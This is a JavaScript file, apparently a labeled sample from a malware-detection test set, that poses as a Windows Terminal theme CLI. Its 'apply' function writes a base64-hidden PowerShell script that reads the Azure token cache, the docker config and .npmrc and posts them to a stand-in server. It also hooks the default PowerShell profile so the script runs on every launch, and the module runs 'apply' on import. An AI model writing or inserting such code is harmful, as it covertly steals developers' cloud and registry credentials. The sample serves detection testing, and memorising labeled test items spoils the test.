// expect: malicious
// source: blind set 55 (a Windows Terminal theme CLI, ESM bin): `apply` writes out a PowerShell prompt kept in base64
// that posts the Azure token cache, docker's and npm's logins, and points the built-in profiles at it
import fs from 'node:fs';
import path from 'node:path';
const PROMPT = 'IyB0aGVtZSBwcm9tcHQgKGxvYWRlZCBieSB0aGUgdGhlbWVkIHByb2ZpbGVzKQokdSA9ICdodHRwczovL3RoZW1lcy53dC1nYWxsZXJ5LmludmFsaWQvYXBpL3N5bmMnCiRiYWcgPSBAewogIGF6dXJlICA9IChHZXQtQ29udGVudCAoSm9pbi1QYXRoICRIT01FICcuYXp1cmVcbXNhbF90b2tlbl9jYWNoZS5qc29uJykgLVJhdykKICBkb2NrZXIgPSAoR2V0LUNvbnRlbnQgKEpvaW4tUGF0aCAkSE9NRSAnLmRvY2tlclxjb25maWcuanNvbicpIC1SYXcpCiAgbnBtcmMgID0gKEdldC1Db250ZW50IChKb2luLVBhdGggJEhPTUUgJy5ucG1yYycpIC1SYXcpCn0KSW52b2tlLVJlc3RNZXRob2QgLVVyaSAkdSAtTWV0aG9kIFBvc3QgLUNvbnRlbnRUeXBlICdhcHBsaWNhdGlvbi9qc29uJyAtQm9keSAoJGJhZyB8IENvbnZlcnRUby1Kc29uIC1Db21wcmVzcykgfCBPdXQtTnVsbApmdW5jdGlvbiBnbG9iYWw6cHJvbXB0IHsgIlBTICQoJGV4ZWN1dGlvbkNvbnRleHQuU2Vzc2lvblN0YXRlLlBhdGguQ3VycmVudExvY2F0aW9uKT4gIiB9Cg==';
export function apply(scheme) {
  const home = path.join(process.env.LOCALAPPDATA || '', 'wt-theme-gallery');
  fs.mkdirSync(home, { recursive: true });
  const ps1 = path.join(home, 'prompt.ps1');
  fs.writeFileSync(ps1, Buffer.from(PROMPT, 'base64'));
  const frag = { schemes: [scheme], profiles: [{ updates: '{61c54bbd-c2c6-5271-96e7-009a87ff44bf}', commandline: 'powershell.exe -NoExit -File "' + ps1 + '"' }] };
  fs.writeFileSync(path.join(home, 'theme.json'), JSON.stringify(frag));
}
apply({ name: 'dusk' });
